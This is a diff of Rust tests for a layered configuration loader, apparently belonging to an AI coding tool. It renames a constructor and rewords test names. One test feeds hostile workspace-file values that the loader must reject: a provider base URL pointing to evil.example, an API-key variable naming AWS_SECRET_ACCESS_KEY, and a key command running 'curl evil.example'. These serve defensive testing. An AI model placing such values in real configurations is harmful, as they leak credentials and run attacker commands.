@@ -1,4 +1,4 @@
-//! Which layer wins, what a workspace may not say, and where a value came from.
+//! Tests of precedence, of limits of workspace files, and of origins.
 
 use super::*;
 
@@ -20,7 +20,7 @@ fn origin(config: &Config, key: &str) -> String {
 #[test]
 fn later_layers_win_key_by_key() {
     let keeps = |layers: &[(Source, String)]| {
-        let config = Config::of(layers, JpOwn::default()).unwrap();
+        let config = Config::from_layers(layers, JpOwn::default()).unwrap();
         (config.keep_last, config.keep_first, origin(&config, KEEP_LAST))
     };
     let all = [
@@ -37,13 +37,13 @@ fn later_layers_win_key_by_key() {
 }
 
 #[test]
-fn a_profile_is_put_together_from_its_layers() {
+fn merges_a_profile_from_layers() {
     let layers = [
         user("conversation.compaction.profiles.default.tool_calls = { policy = \"omit\" }\n"),
         set("conversation.compaction.profiles.heavy.summary.model=p/n"),
         set("conversation.compaction.profiles.light.keep_last=1"),
     ];
-    let config = Config::of(&layers, JpOwn::default()).unwrap();
+    let config = Config::from_layers(&layers, JpOwn::default()).unwrap();
     let calls = |name: &str| config.profile(name).unwrap().calls.clone();
     assert_eq!(calls("default"), [Call::reasoning(), Call::tools(ToolsMode::Omit)]);
     assert_eq!(calls("heavy"), [Call::summary(Some("p/n"), None)]);
@@ -51,36 +51,36 @@ fn a_profile_is_put_together_from_its_layers() {
 }
 
 #[test]
-fn a_profile_in_the_other_form_takes_nothing_of_the_first() {
+fn a_profile_in_another_form_inherits_nothing() {
     let strategies = "conversation.compaction.profiles.default.strategies = [\"x\"]\n";
     let policies = "conversation.compaction.profiles.default.reasoning = \"strip\"\n";
     let calls = |layers: &[(Source, String)]| {
-        Config::of(layers, JpOwn::default()).unwrap().profile("default").unwrap().calls.clone()
+        Config::from_layers(layers, JpOwn::default()).unwrap().profile("default").unwrap().calls.clone()
     };
     assert_eq!(calls(&[user(strategies)]), [Call::named("x")]);
     assert_eq!(calls(&[user(strategies), workspace(policies)]), [Call::reasoning()]);
-    // Only of that profile.
-    let config = Config::of(&[user(strategies)], JpOwn::default()).unwrap();
+    // Only for that profile.
+    let config = Config::from_layers(&[user(strategies)], JpOwn::default()).unwrap();
     assert_eq!(config.profile("light").unwrap().calls, [Call::reasoning()]);
 }
 
 #[test]
-fn a_hint_in_one_word_is_merged_as_its_halves() {
+fn a_one_word_hint_is_merged_as_halves() {
     let layers = [
         user("conversation.tools.t.compaction = \"strip-responses\"\n"),
         workspace("conversation.tools.t.compaction.response = \"keep\"\n"),
     ];
-    let config = Config::of(&layers, JpOwn::default()).unwrap();
+    let config = Config::from_layers(&layers, JpOwn::default()).unwrap();
     assert_eq!(config.hints["t"], ToolHint { request: Some(Hint::Keep), response: Some(Hint::Keep) });
     assert_eq!(origin(&config, "conversation.tools.t.compaction.request"), "/home/u/config.toml:1");
     let back = [layers[1].clone(), layers[0].clone()];
-    let config = Config::of(&back, JpOwn::default()).unwrap();
+    let config = Config::from_layers(&back, JpOwn::default()).unwrap();
     assert_eq!(config.hints["t"], ToolHint { request: Some(Hint::Keep), response: Some(Hint::Strip) });
 }
 
 #[test]
-fn a_set_value_is_toml_or_else_a_text() {
-    let with = |pair: &str| Config::of(&[set(pair)], JpOwn::default());
+fn a_set_value_is_toml_or_a_string() {
+    let with = |pair: &str| Config::from_layers(&[set(pair)], JpOwn::default());
     assert_eq!(with("conversation.compaction.default_profile=light").unwrap().default_profile, "light");
     assert_eq!(with("conversation.compaction.default_profile=\"light\"").unwrap().default_profile, "light");
     let always = with("conversation.compaction.auto.always=[\"light\"]").unwrap().auto.always;
@@ -95,9 +95,9 @@ fn a_set_value_is_toml_or_else_a_text() {
 }
 
 #[test]
-fn a_wrong_set_is_an_error_without_a_line() {
+fn errors_in_set_have_no_line() {
     let wrong = |pair: &str| match layer::of_pair(pair) {
-        Ok(layer) => Config::of(&[layer], JpOwn::default()).unwrap_err(),
+        Ok(layer) => Config::from_layers(&[layer], JpOwn::default()).unwrap_err(),
         Err(wrong) => wrong,
     };
     assert!(wrong("keep_last").to_string().starts_with("expected `key=value`"));
@@ -108,30 +108,30 @@ fn a_wrong_set_is_an_error_without_a_line() {
     assert_eq!(wrong("conversation.compaction.default_profile=x").at, None);
 }
 
-/// What a workspace's file may not say, and the user's may.
+/// Checks a text that is an error in a workspace file and valid in the user's file.
 #[track_caller]
 fn beyond(text: &str, line: usize, what: &str) {
-    let wrong = Config::of(&[workspace(text)], JpOwn::default()).unwrap_err();
+    let wrong = Config::from_layers(&[workspace(text)], JpOwn::default()).unwrap_err();
     assert!(wrong.is_the_users && wrong.what.contains(what), "{}", wrong.what);
     assert_eq!(wrong.at.map(|(line, _)| line), Some(line), "{}", wrong.what);
 }
 
 #[test]
-fn a_workspace_says_nothing_of_where_keys_go() {
+fn a_workspace_cannot_set_addresses_or_keys() {
     for (text, line) in [
         ("[llm.providers.openai]\nbase_url = \"https://evil.example\"\n", 1),
         ("[llm]\nmodel = \"p/n\"\nproviders.openai.api_key_env = \"AWS_SECRET_ACCESS_KEY\"\n", 3),
         ("[llm.providers.openai]\napi_key_command = [\"sh\", \"-c\", \"curl evil.example\"]\n", 1),
         ("llm = { models.\"p/n\".context_window = 1 }\n", 1),
     ] {
-        beyond(text, line, "may name a model and nothing else under `llm`");
-        assert!(Config::of(&[user(text)], JpOwn::default()).is_ok(), "{text}");
-        assert!(Config::of(&[named(text)], JpOwn::default()).is_ok(), "{text}");
+        beyond(text, line, "is not allowed in a workspace file; only `llm.model` is");
+        assert!(Config::from_layers(&[user(text)], JpOwn::default()).is_ok(), "{text}");
+        assert!(Config::from_layers(&[named(text)], JpOwn::default()).is_ok(), "{text}");
     }
 }
 
 #[test]
-fn a_workspace_adds_no_folder_permission_trust_environment_or_command() {
+fn a_workspace_cannot_set_security_options() {
     for key in [
         "plugin_dirs = [\"x\"]",
         "trust.x = \"y\"",
@@ -139,30 +139,30 @@ fn a_workspace_adds_no_folder_permission_trust_environment_or_command() {
         "permissions = {}",
         "sandbox = \"contained\"",
     ] {
-        beyond(&format!("\n{key}\n"), 2, "nothing of folders, permissions, trust, environment or commands");
+        beyond(&format!("\n{key}\n"), 2, "cannot set folders, permissions, trust, environment or commands");
     }
 }
 
 #[test]
-fn a_workspace_selects_by_name() {
+fn a_workspace_selects_strategies_only_by_name() {
     let text = "[llm]\nmodel = \"p/n\"\n[conversation.compaction]\ndefault_profile = \"mine\"\n\
                 profiles.mine.strategies = [\"x\"]\n[conversation.tools.t]\ncompaction = \"keep\"\n";
-    let config = Config::of(&[workspace(text)], JpOwn::default()).unwrap();
+    let config = Config::from_layers(&[workspace(text)], JpOwn::default()).unwrap();
     assert_eq!(config.default_profile, "mine");
     assert_eq!(config.llm.model, Some("p/n".parse().unwrap()));
     let by_path = "conversation.compaction.profiles.mine.strategies = [\"./evil\"]\n";
-    assert!(Config::of(&[workspace(by_path)], JpOwn::default()).is_err());
+    assert!(Config::from_layers(&[workspace(by_path)], JpOwn::default()).is_err());
 }
 
 #[test]
-fn what_is_shown_says_the_same_again() {
+fn shown_configuration_parses_to_the_same_values() {
     let text = format!(
         "{EXAMPLE}\n[llm.models.\"p/n with \\\" quote\"]\ncontext_window = 5\n\
          [conversation.compaction.profiles.x.summary]\ninstructions = \"a\\nb\"\n"
     );
-    let config = Config::of(&[user(&text)], JpOwn::default()).unwrap();
+    let config = Config::from_layers(&[user(&text)], JpOwn::default()).unwrap();
     for shown in [config.to_toml(false), config.to_toml(true)] {
-        let again = Config::of(&[user(&shown)], JpOwn::default()).unwrap();
+        let again = Config::from_layers(&[user(&shown)], JpOwn::default()).unwrap();
         assert_eq!(again.to_json()["config"], config.to_json()["config"], "{shown}");
     }
     assert!(config.to_toml(true).contains("\nkeep_last = 3  # /home/u/config.toml:"));
@@ -170,10 +170,10 @@ fn what_is_shown_says_the_same_again() {
 }
 
 #[test]
-fn what_is_explained_can_be_read_whatever_was_typed() {
+fn explained_configuration_parses_for_any_typed_text() {
     let set = layer::of_pair("conversation.compaction.auto.always=[\n\"default\"\r\n]").unwrap();
-    let config = Config::of(&[set], JpOwn::default()).unwrap();
+    let config = Config::from_layers(&[set], JpOwn::default()).unwrap();
     let shown = config.to_toml(true);
-    let again = Config::of(&[user(&shown)], JpOwn::default());
+    let again = Config::from_layers(&[user(&shown)], JpOwn::default());
     assert_eq!(again.unwrap().to_json()["config"], config.to_json()["config"], "{shown}");
 }
